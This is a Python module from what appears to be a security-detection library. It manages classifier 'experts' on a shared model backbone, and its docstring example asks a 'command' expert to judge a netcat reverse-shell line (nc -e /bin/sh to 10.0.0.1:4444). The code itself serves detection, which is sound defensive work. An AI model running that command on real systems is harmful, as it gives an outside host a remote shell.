"""All experts on one backbone: plugged in, replaced and pulled out while they answer; asked one by one or together.

A request works on the experts as they were when it came: nothing is dropped and nothing is answered by a version that
was not whole. The trunk is computed once for all experts asked about a text (CCoE, arXiv 2407.11686).

    floor = ExpertFloor.open()
    floor.ask("command", ["nc -e /bin/sh 10.0.0.1 4444"])[0].best
"""

from collections.abc import Iterator, Mapping, Sequence
from threading import Lock
from typing import Final

import numpy as np
import numpy.typing as npt

from watchfloor.base.errors import UsageError
from watchfloor.base.judgements import Expert, Judgement
from watchfloor.experts import bundled
from watchfloor.experts.adapter import Below
from watchfloor.experts.backbone import RANK, Backbone, Job, Seen
from watchfloor.experts.disguise import views
from watchfloor.experts.judging import joined, judgement
from watchfloor.experts.packs import Plugged, load
from watchfloor.experts.pieces import MOST_CHARACTERS, Numbers, Window, shape

Floats = npt.NDArray[np.float32]

#: A window, and all pieces of the text or view it was cut from.
Cut = tuple[Window, Numbers]

#: Texts that are worked on at once: enough to fill the graphs, little memory.
_AT_ONCE: Final = 256


class ExpertFloor:
    """The experts of one backbone, and others behind endpoints, by name."""

    def __init__(self, backbone: Backbone) -> None:
        self.backbone = backbone
        self._plugged: Mapping[str, Plugged] = {}
        self._outside: Mapping[str, Expert] = {}
        self._changing = Lock()

    @classmethod
    def open(cls, names: Sequence[str] | None = None, *, threads: int = 0) -> "ExpertFloor":
        """The bundled backbone with the bundled experts named, or with all of them.

        Raises:
            PackError: a pack is missing or damaged.
        """
        floor = cls(Backbone(bundled.BACKBONE, threads=threads))
        for folder in bundled.experts():
            if names is not None and folder.name not in names:
                continue
            floor.plug(load(folder, base=floor.backbone.version))
        return floor

    @property
    def experts(self) -> Mapping[str, Plugged]:
        """The experts on the backbone as they are now; the mapping never changes under its reader."""
        return self._plugged

    @property
    def names(self) -> list[str]:
        """Names of all that can be asked."""
        return sorted([*self._plugged, *self._outside])

    def plug(self, expert: Plugged) -> None:
        """Plug an expert in, or put it in the place of the one with its name."""
        if expert.card.base != self.backbone.version:
            raise UsageError(f"expert {expert.name} was made for another backbone.")
        below, blocks = expert.adapter.below, int(self.backbone.pack.manifest["shape"]["blocks"]) - 1
        if below is not None and len(below.blocks) != blocks:
            raise UsageError(f"expert {expert.name} changes {len(below.blocks)} blocks of a trunk of {blocks}.")
        if (rank := expert.adapter.lora["query"][0].shape[1]) != RANK:
            raise UsageError(f"expert {expert.name} changes blocks by rank {rank}, and here it is {RANK}.")
        with self._changing:
            self._plugged = {**self._plugged, expert.name: expert}

    def attach(self, expert: Expert) -> None:
        """Attach an expert that is not on the backbone: a model behind an endpoint."""
        with self._changing:
            self._outside = {**self._outside, expert.name: expert}

    def pull(self, name: str) -> None:
        """Pull an expert out; requests that are under way still get their answer.

        Raises:
            UsageError: it is not there.
        """
        with self._changing:
            if name not in self._plugged and name not in self._outside:
                raise self._missing(name)
            self._plugged = {key: each for key, each in self._plugged.items() if key != name}
            self._outside = {key: each for key, each in self._outside.items() if key != name}

    def ask(self, name: str, texts: Sequence[str]) -> list[Judgement]:
        """One expert's judgement of each text.

        Raises:
            UsageError: no such expert.
        """
        return self.ask_all([name], texts)[name]

    def ask_all(self, names: Sequence[str], texts: Sequence[str]) -> dict[str, list[Judgement]]:
        """Several experts' judgements of the same texts; what they share is computed once.

        Raises:
            UsageError: one of them is not there.
        """
        judged = self.ask_each([(name, text) for text in texts for name in names])
        return {name: judged[place :: len(names)] for place, name in enumerate(names)}

    def ask_each(self, questions: Sequence[tuple[str, str]]) -> list[Judgement]:
        """Each text judged by the expert beside it, all of them in one go.

        Raises:
            UsageError: one of the experts is not there.
        """
        plugged, outside = self._plugged, self._outside
        for name in dict.fromkeys(name for name, _ in questions):
            if name not in plugged and name not in outside:
                raise self._missing(name)
        found: list[Judgement | None] = [None] * len(questions)
        inside = [place for place, (name, _) in enumerate(questions) if name in plugged]
        for start in range(0, len(inside), _AT_ONCE):
            part = inside[start : start + _AT_ONCE]
            judged = self._judge([(plugged[questions[place][0]], questions[place][1]) for place in part])
            for place, each in zip(part, judged, strict=True):
                found[place] = each
        for name in sorted({name for name, _ in questions} - set(plugged)):
            places = [place for place, (asked, _) in enumerate(questions) if asked == name]
            for place, each in zip(places, outside[name].ask([questions[place][1] for place in places]), strict=True):
                found[place] = each
        return [each for each in found if each is not None]

    def _judge(self, questions: Sequence[tuple[Plugged, str]]) -> list[Judgement]:
        texts = list(dict.fromkeys(text for _, text in questions))
        pieces = dict(zip(texts, self.backbone.pieces.split(texts), strict=True))
        found: list[Judgement | None] = [None] * len(questions)
        ways: dict[tuple[int, int, int, bool], list[int]] = {}
        for place, (expert, _) in enumerate(questions):
            windows = expert.card.windows
            ways.setdefault((windows.size, windows.overlap, windows.most, windows.unmask), []).append(place)
        for (*way, unmask), places in ways.items():
            cuts: dict[str, list[Cut]] = {}
            for text in dict.fromkeys(questions[place][1] for place in places):
                # A view holds all the text says; the disguise itself looks like nothing but an attack.
                read = self.backbone.pieces.split(views(text, self.backbone.pieces.whole_words)) if unmask else []
                cuts[text] = [(window, each) for each in read or [pieces[text]]
                              for window in self.backbone.pieces.windows(each, *way)]  # fmt: skip
            for place, each in self._read([(place, *questions[place]) for place in places], cuts, pieces):
                found[place] = each
        return [each for each in found if each is not None]

    def _read(self, asked: Sequence[tuple[int, Plugged, str]], cuts: Mapping[str, list[Cut]],
              pieces: Mapping[str, Numbers]) -> Iterator[tuple[int, Judgement]]:  # fmt: skip
        """Questions whose experts cut texts alike: through trunk and upper block together."""
        seen, first = self._seen(asked, cuts)
        experts = list({expert.name: expert for _, expert, _ in asked}.values())
        number = {expert.name: place for place, expert in enumerate(experts)}
        jobs: list[Job] = []
        spans: list[range] = []
        for _, expert, text in asked:
            spans.append(range(len(jobs), len(jobs) + len(cuts[text])))
            start = first[_mark(expert), text]
            jobs += [(start + place, number[expert.name]) for place in range(len(cuts[text]))]
        features = self.backbone.read(seen, [expert.adapter for expert in experts], jobs)
        lie = self.backbone.places(seen)
        shapes = {text: shape(text) for text in cuts}
        for expert in experts:
            mine = [row for row, (_, each, _) in enumerate(asked) if each.name == expert.name]
            rows = [job for row in mine for job in spans[row]]
            looks = np.stack([shapes[asked[row][2]] for row in mine for _ in spans[row]])
            whole = expert.card.windows.words == "text"
            words = [of if whole else window.words[1:-1] for row in mine for window, of in cuts[asked[row][2]]]
            logits = expert.adapter.logits(features[rows], looks, words)
            start = 0
            for row in mine:
                place, _, text = asked[row]
                end = start + len(spans[row])
                probability = joined(expert.card, logits[start:end])
                plain = first.get((b"", text), len(lie))
                doubts = self._doubts(expert, text, pieces[text], lie[plain : plain + len(cuts[text])])
                yield place, judgement(expert.card, expert.version, probability, doubts)
                start = end

    def _seen(self, asked: Sequence[tuple[int, Plugged, str]],
              cuts: Mapping[str, list[Cut]]) -> tuple[list[Seen], dict[tuple[bytes, str], int]]:  # fmt: skip
        """What the trunk makes of texts: once for all experts that leave it as it is, and for where texts lie, once for

        each that changes it. Also where a text's windows begin, by the trunk's mark and text.
        """
        ways: dict[bytes, tuple[Below | None, dict[str, None]]] = {}
        for _, expert, text in asked:
            ways.setdefault(_mark(expert), (expert.adapter.below, {}))[1][text] = None
            if not expert.card.windows.unmask:
                ways.setdefault(b"", (None, {}))[1][text] = None
        seen: list[Seen] = []
        first: dict[tuple[bytes, str], int] = {}
        for mark, (below, texts) in ways.items():
            windows: list[Window] = []
            for text in texts:
                first[mark, text] = len(seen) + len(windows)
                windows += [window for window, _ in cuts[text]]
            seen += self.backbone.see(windows, below)
        return seen, first

    def _doubts(self, expert: Plugged, text: str, pieces: Numbers, where: Floats) -> list[str]:
        """Why this expert had better not answer this text."""
        if not len(pieces):
            return ["there is nothing to read"]
        found = []
        windows = expert.card.windows
        held = windows.size - 2 + (windows.most - 1) * (windows.size - 2 - windows.overlap)
        if windows.join == "alarm" and (len(pieces) > held or len(text) > MOST_CHARACTERS):
            found.append(f"longer than it can read: {len(text):,} characters; split it")
        if not windows.unmask:  # what looks under disguises is meant for any text
            evidence = float(expert.domain.evidence(where, self.backbone.nobodys).max())
            if evidence < expert.domain.limit:
                found.append(f"unlike anything it knows: evidence {evidence:.2f}, and it answers from "
                             f"{expert.domain.limit:.2f}")  # fmt: skip
        return found

    def _missing(self, name: str) -> UsageError:
        known = ", ".join(self.names) or "none"
        return UsageError(f"there is no expert {name!r}.", hint=f"There are: {known}.")


def _mark(expert: Plugged) -> bytes:
    """Whose trunk an expert reads: empty for the one that most share."""
    return b"" if expert.adapter.below is None else expert.adapter.below.mark
